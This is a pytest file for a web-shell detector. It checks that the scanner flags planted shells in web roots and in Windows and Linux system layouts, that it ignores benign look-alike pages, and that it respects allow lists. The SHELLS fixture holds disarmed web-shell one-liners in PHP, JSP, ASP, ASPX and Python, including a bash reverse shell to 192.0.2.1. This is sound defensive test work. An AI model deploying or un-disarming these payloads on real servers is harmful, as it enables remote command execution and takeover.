"""Scripts in folders and whole systems: every page that heuristics once knew, by the pack alone; who vouches."""

import functools
import hashlib
import os
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from codered.detect.scripts import judging
from codered.model.allow_list import NOTHING_ALLOWED, AllowedFile, AllowList
from codered.model.report import Report
from codered.model.ruleset import RuleSet
from codered.model.target import Place
from codered.packs.compiling import compile_packs
from codered.packs.loading import find_packs_folder, load_packs
from codered.scan import ScanRequest, scan
from codered.scan.request import EarlierLooks
from codered.scan.script_look import BROUGHT
from codered.targets import open_target
from tests.fixtures.autostart_roots import make_root, own, write
from tests.fixtures.windows_roots import lay_out_windows2000

# None of them could run: each ends before its first word.
SHELLS = {
    "cmd.php": "<?php exit; if(isset($_REQUEST['cmd'])){$cmd=($_REQUEST['cmd']);system($cmd);die;}?>",
    "direct.php": "<?php exit; @eval($_POST['x']);",
    "packed.phtml": "<?php exit;\n assert( base64_decode( $_COOKIE['a'] ) );",
    "called.php": "<?php exit; $_GET['f']($_GET['a']);",
    "tick.php": "<?php exit; echo `$_GET[c]`;",
    "tick2.php": "<?php exit; $a = @`$_POST['c']`; ",
    "tick3.php": "<?php exit; die(`$_REQUEST[c]`);",
    "tick4.php": "<?php exit; ?><?= '<pre>' . `$_COOKIE[c]` ?>",
    "shell.jsp": '<% if (true) return; Runtime.getRuntime().exec(request.getParameter("c")); %>',
    "one.asp": '<% Response.End : eval request("x") %>',
    "cmd.py": "raise SystemExit\nimport os, cgi\nform = cgi.FieldStorage()\nos.popen(form.getvalue('c'))\n",
    "reverse.php": "<?php exit; exec(\"/bin/bash -c 'nohup setsid bash -i > /dev/tcp/192.0.2.1/9 0>&1'\");",
    "picture.php.jpg": "GIF89a<?php exit; @eval($_POST['x']);",
}
APPLICATIONS = {
    "photo.php": "<?php exec('/usr/bin/identify ' . escapeshellarg($_POST['name']), $lines);",
    "query.php": "<?php $id = $_GET['id']; $rows = $db->exec($sql); $this->system($id); $c = curl_exec($handle);",
    "page.php": "<?php $page = basename($_GET['page'] ?? 'home'); require __DIR__ . \"/pages/$page.php\";",
    "form.php": "<?php if (isset($_POST['name']) && strlen($_POST['name']) > 3) { save($_POST['name']); }",
    "documented.php": "<?php\n/**\n * @param bool $test Whether `$_POST['action']` is right, or (`$_GET['a']`).\n"
    " * Like `$_POST['b']`, `$_GET['c']`: usually from `$_REQUEST['customized']`.\n */\n$a = $_POST['action'];\n",
    "mail.py": "import cgi, subprocess\nform = cgi.FieldStorage()\nsubprocess.run(['/usr/sbin/sendmail', '-t'])\n",
    "list.jsp": '<%= request.getParameter("q") %>',
    "login.asp": '<% name = Request("name") : Set rows = db.Execute(sql) %>',
    "long.php": "$_GET" + "[" * 200_000,
    "b\udcff.php": "<?php \0$_POST\0eval(",
}
SHELL = SHELLS["direct.php"]


@functools.cache
def webshell_rules() -> RuleSet:
    return compile_packs(load_packs(find_packs_folder(), ("webshell",)), None)


def look(
    folder: Path, *, root: bool = False, allowed: AllowList = NOTHING_ALLOWED, cache: str = "", fast: bool = False
) -> Report:
    target = open_target(str(folder)) if root else open_target(scope=(os.fsencode(folder),))
    kept = EarlierLooks(f"{cache}/seen", f"{cache}/key") if cache else EarlierLooks()
    places = (Place(str(folder), (str(folder),)),)
    request = ScanRequest(places=places, cores=1, allowed=allowed, earlier=kept, fast=fast)
    return scan(target, request, webshell_rules())


def names(report: Report) -> set[str]:
    return {os.path.basename(found.subject.path or "") for found in report.findings}


def test_every_shell_is_found_and_no_application(tmp_path: Path) -> None:
    write(tmp_path, {f"www/{name}": text for name, text in (SHELLS | APPLICATIONS).items()})
    write(tmp_path, {"www/real.php": "GIF89a\1\0\1\0" + "\0\1\2\3" * 500 + SHELL})  # as binary as a picture is
    os.mkfifo(tmp_path / "www/pipe.php")
    (tmp_path / "www/link.php").symlink_to(tmp_path / "www/direct.php")
    report = look(tmp_path / "www")
    assert names(report) == {*SHELLS, "real.php"}
    for found in report.findings:
        assert (found.pack, found.layer, found.subject.kind) == ("webshell", "files", "file"), found
        assert found.confidence in ("likely", "confirmed"), found
    assert report.verdict == "infected"


@pytest.mark.parametrize("fast", [False, True])
def test_of_a_whole_system_web_roots_are_looked_at_also_where_haste_was_asked_for(tmp_path: Path, fast: bool) -> None:
    root = make_root(tmp_path)
    write(root, {"srv/shop/s.php": SHELL, "home/ann/public_html/t.php": SHELL, "data/site/u.php": SHELL})
    write(root, {"etc/nginx/sites-enabled/a": "server {\n  root /data/site;\n}\n", "opt/elsewhere.php": SHELL})
    report = look(root, root=True, fast=fast)
    assert names(report) == {"s.php", "t.php", "u.php"} | (set() if fast else {"elsewhere.php"})
    assert ("web roots" in [step.what for step in report.order]) == fast


@pytest.mark.parametrize("fast", [False, True])
def test_a_windows_system(tmp_path: Path, fast: bool) -> None:
    root = lay_out_windows2000(tmp_path / "root")
    page = (
        '<%@ Page Language="C#" %><script runat="server">void Page_Load() { Response.End(); return;\n'
        'System.Diagnostics.Process.Start("cmd.exe", "/c " + Request.Form["c"]); }</script>'
    )
    write(root, {"Inetpub/wwwroot/a/x.aspx": page})
    found = [each for each in look(root, root=True, fast=fast).findings if each.pack == "webshell"]
    assert [(each.layer, each.subject.shown) for each in found] == [("files", "C:\\Inetpub\\wwwroot\\a\\x.aspx")]


def test_an_old_shell_is_found_too_and_so_again_with_the_memory_of_earlier_scans(tmp_path: Path) -> None:
    write(tmp_path, {"up/s.php": SHELL})
    os.utime(tmp_path / "up/s.php", (1, 1))
    assert [names(look(tmp_path / "up", cache=str(tmp_path))) for _ in range(2)] == [{"s.php"}, {"s.php"}]


def test_what_a_package_brought_or_the_administrator_allows_is_none_and_told(tmp_path: Path) -> None:
    root = make_root(tmp_path)
    own(root, "tool", {"srv/tool.php": SHELL, "srv/changed.php": "<?php echo 1;"})
    write(root, {"srv/mine.php": SHELL, "srv/changed.php": SHELL})
    entry = AllowedFile(
        path="/srv/mine.php", sha256=hashlib.sha256(SHELL.encode()).hexdigest(), who="ann", because="a test page",
        expires=datetime.now(UTC).date() + timedelta(days=2),
    )  # fmt: skip
    report = look(root, root=True, allowed=AllowList(files=(entry,)))
    assert names(report) == {"changed.php"}
    assert [look.why for look in report.looks if "ann: a test page" in look.why] != []
    assert [look.examples for look in report.looks if look.why == BROUGHT] == [(f"{root}/srv/tool.php",)]
    (root / "srv/mine.php").write_text(SHELL + " ")
    assert names(look(root, root=True, allowed=AllowList(files=(entry,)))) == {"changed.php", "mine.php"}


def test_an_installed_application_is_clean_and_a_page_added_to_it_is_not(tmp_path: Path) -> None:
    installed = Path("/usr/share/wordpress/wp-admin/includes")
    assert installed.is_dir(), "needs Debian's package wordpress"
    report = look(installed)
    assert report.findings == ()
    assert sum(look.count for look in report.looks if look.why == BROUGHT) < 5
    write(tmp_path, {"plugins/hello.php": (installed / "media.php").read_text() + "\nexit; @eval($_POST['x']);\n"})
    assert names(look(tmp_path)) == {"hello.php"}


def gaps(report: Report) -> dict[str, str]:
    return {line.where: line.why for line in report.looks if "script not judged" in line.why}


def test_a_script_behind_the_first_mebibyte_is_found_and_one_that_is_not_read_whole_is_told(tmp_path: Path) -> None:
    lines = "// nothing at all\n" * 100_000
    write(tmp_path, {"www/far.php": f"<?php exit;\n{lines}@eval($_POST['x']);", "www/quoting.log": lines + SHELL})
    write(tmp_path, {"www/large.php": f"<?php exec('/usr/bin/id ' . escapeshellarg($_POST['name']));\n{lines}"})
    report = look(tmp_path / "www")
    assert {os.path.basename(each.subject.path or ""): each.confidence for each in report.findings} == {
        "far.php": "confirmed", "quoting.log": "suspicious",
    }  # fmt: skip
    assert list(gaps(report).values()) == ["script not judged: script too large to be read whole"]


@pytest.mark.parametrize("place", ["read_script", "weigh"])
def test_a_failure_costs_no_other_finding_and_is_told(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, place: str
) -> None:
    def fail(*_: object) -> None:
        raise RecursionError

    monkeypatch.setattr(judging, place, fail)
    write(tmp_path, {"www/s.php": SHELL})
    report = look(tmp_path / "www")
    assert list(gaps(report).values()) == ["script not judged: it could not be judged: RecursionError"]
